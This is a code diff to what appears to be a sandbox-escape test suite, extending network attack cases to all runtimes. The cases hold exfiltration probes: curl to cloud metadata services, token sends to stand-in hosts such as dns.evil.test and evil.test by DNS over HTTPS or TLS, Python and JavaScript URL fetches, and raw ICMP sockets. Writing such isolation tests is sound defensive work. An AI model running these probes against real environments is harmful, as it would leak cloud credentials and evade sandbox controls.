@@ -1,4 +1,4 @@
-import type { AttackCase } from "../attack-case.ts";
+import { type AttackCase, allRuntimes } from "../attack-case.ts";
 import { addresses } from "../fake-internet/zone.ts";
 import { curl, networkAttack, python, shell } from "./network-attack.ts";
 
@@ -51,7 +51,7 @@ export const directCases: readonly AttackCase[] = [
     attack: 26,
     title: "The cloud's metadata service, by its addresses",
     protection: "no interface; addresses of no rule are denied",
-    runtimes: ["docker", "embedded"],
+    runtimes: allRuntimes,
     program: ({ token, target }) =>
       curl(
         target,
@@ -65,7 +65,7 @@ export const directCases: readonly AttackCase[] = [
     attack: 26,
     title: "The cloud's metadata service, by its name",
     protection: "only names of a rule are resolved",
-    runtimes: ["docker", "embedded"],
+    runtimes: allRuntimes,
     program: ({ token, target }) =>
       curl(target, [`http://metadata.google.internal/computeMetadata/${token}`]),
   }),
@@ -133,7 +133,7 @@ print(result)`),
     attack: 31,
     title: "DNS over HTTPS and over TLS with an unlisted server",
     protection: "only hosts of a rule are reached",
-    runtimes: ["docker", "embedded"],
+    runtimes: allRuntimes,
     program: ({ token, target }) =>
       curl(target, [`https://dns.evil.test:853/${token}`, `https://dns.evil.test/dns-query?name=${token}`]),
   }),
@@ -142,6 +142,7 @@ print(result)`),
     attack: 32,
     title: "ICMP, in a datagram and in a raw socket",
     protection: "no interface, no capability, seccomp",
+    protectionOn: { microsandbox: "no interface, no capability" },
     program: ({ address }) =>
       attempts("os", [
         `socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\\x08\\x00\\xf7\\xff" + bytes(4), ("${address}", 0))`,
@@ -161,7 +162,7 @@ print(result)`),
     attack: 33,
     title: "Python's and JavaScript's own ways to ask for a URL",
     protection: "the gateway is the only way, asked or not",
-    runtimes: ["docker", "embedded"],
+    runtimes: allRuntimes,
     program: ({ token, target }) =>
       shell(`python3 -c 'import urllib.request; urllib.request.urlopen("http://evil.test/${token}", timeout=10)' 2>/dev/null
 ${target.kind === "embedded" ? `js-exec -c 'fetch("http://evil.test/${token}")'` : ":"} >/dev/null 2>&1
